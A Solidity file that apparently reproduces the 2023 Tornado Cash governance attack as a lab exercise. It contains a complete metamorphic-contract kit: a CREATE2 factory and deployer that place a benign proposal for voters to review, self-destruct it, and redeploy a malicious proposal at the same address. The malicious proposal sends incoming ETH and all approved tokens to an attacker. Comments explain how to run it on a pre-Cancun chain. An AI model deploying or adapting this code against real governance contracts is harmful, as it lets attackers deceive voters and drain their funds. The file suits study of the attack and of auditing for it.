// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

// The Tornado Cash governance attack (May 2023). The factory deploys a deployer with CREATE2 at a fixed
// salt; the deployer CREATEs the proposal contract at nonce 1. Once both self-destruct, the deployer can
// be recreated at the same address with its nonce back at 1, so its next CREATE lands at the SAME
// proposal address with DIFFERENT code. SELFDESTRUCT removes code only before Cancun (EIP-6780): run
// this on a Shanghai chain.

interface IERC20Like {
    function allowance(address owner, address spender) external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transferFrom(address from, address to, uint256 value) external returns (bool);
}

/// What voters reviewed: `execute()` forwards the ETH it is sent to the announced recipient.
contract BenignProposal {
    address private immutable deployer;
    address public immutable recipient;

    event Executed(address indexed caller, uint256 value);

    constructor(address recipient_) {
        deployer = msg.sender;
        recipient = recipient_;
    }

    function execute() external payable {
        emit Executed(msg.sender, msg.value);
        if (msg.value > 0) {
            (bool ok,) = recipient.call{value: msg.value}("");
            require(ok, "BenignProposal: transfer failed");
        }
    }

    /// The hidden escape hatch that makes the swap possible.
    function destroy() external {
        require(msg.sender == deployer, "BenignProposal: not deployer");
        selfdestruct(payable(msg.sender));
    }
}

/// What runs after the swap: the same `execute()` sends the ETH to the attacker and pulls every token
/// the caller approved to this address.
contract MaliciousProposal {
    address private immutable deployer;
    IERC20Like public immutable token;
    address public immutable attacker;

    event Executed(address indexed caller, uint256 value);

    constructor(IERC20Like token_, address attacker_) {
        deployer = msg.sender;
        token = token_;
        attacker = attacker_;
    }

    function execute() external payable {
        emit Executed(msg.sender, msg.value);
        if (msg.value > 0) {
            (bool ok,) = attacker.call{value: msg.value}("");
            require(ok, "MaliciousProposal: transfer failed");
        }
        if (address(token) == address(0)) return;
        uint256 amount = token.allowance(msg.sender, address(this));
        uint256 balance = token.balanceOf(msg.sender);
        if (balance < amount) amount = balance;
        if (amount > 0) require(token.transferFrom(msg.sender, attacker, amount), "MaliciousProposal: pull failed");
    }

    function destroy() external {
        require(msg.sender == deployer, "MaliciousProposal: not deployer");
        selfdestruct(payable(msg.sender));
    }
}

interface IDestroyable {
    function destroy() external;
}

/// Lives at a CREATE2 address; its first CREATE (nonce 1) is the proposal address.
contract MetamorphicDeployer {
    address private immutable factory;

    constructor() {
        factory = msg.sender;
    }

    modifier onlyFactory() {
        require(msg.sender == factory, "MetamorphicDeployer: not factory");
        _;
    }

    function deployBenign(address recipient) external onlyFactory returns (address) {
        return address(new BenignProposal(recipient));
    }

    function deployMalicious(IERC20Like token, address attacker) external onlyFactory returns (address) {
        return address(new MaliciousProposal(token, attacker));
    }

    /// Destroys the proposal and itself in one transaction; both accounts are gone when it ends.
    function destroy(address proposal) external onlyFactory {
        IDestroyable(proposal).destroy();
        selfdestruct(payable(msg.sender));
    }
}

contract MetamorphicFactory {
    bytes32 public constant SALT = keccak256("custos.lab.metamorphic");
    address public immutable owner;
    address public proposal;

    event ProposalDeployed(address indexed deployer, address indexed proposal, bool malicious);
    event Destroyed(address indexed deployer, address indexed proposal);

    constructor() {
        owner = msg.sender;
    }

    modifier onlyOwner() {
        require(msg.sender == owner, "MetamorphicFactory: not owner");
        _;
    }

    function deployBenign(address recipient) external onlyOwner returns (address) {
        MetamorphicDeployer d = new MetamorphicDeployer{salt: SALT}();
        proposal = d.deployBenign(recipient);
        emit ProposalDeployed(address(d), proposal, false);
        return proposal;
    }

    function deployMalicious(IERC20Like token, address attacker) external onlyOwner returns (address) {
        MetamorphicDeployer d = new MetamorphicDeployer{salt: SALT}();
        proposal = d.deployMalicious(token, attacker);
        emit ProposalDeployed(address(d), proposal, true);
        return proposal;
    }

    function destroy() external onlyOwner {
        address d = deployerAddress();
        MetamorphicDeployer(d).destroy(proposal);
        emit Destroyed(d, proposal);
    }

    function deployerAddress() public view returns (address) {
        bytes32 h = keccak256(
            abi.encodePacked(bytes1(0xff), address(this), SALT, keccak256(type(MetamorphicDeployer).creationCode))
        );
        return address(uint160(uint256(h)));
    }
}
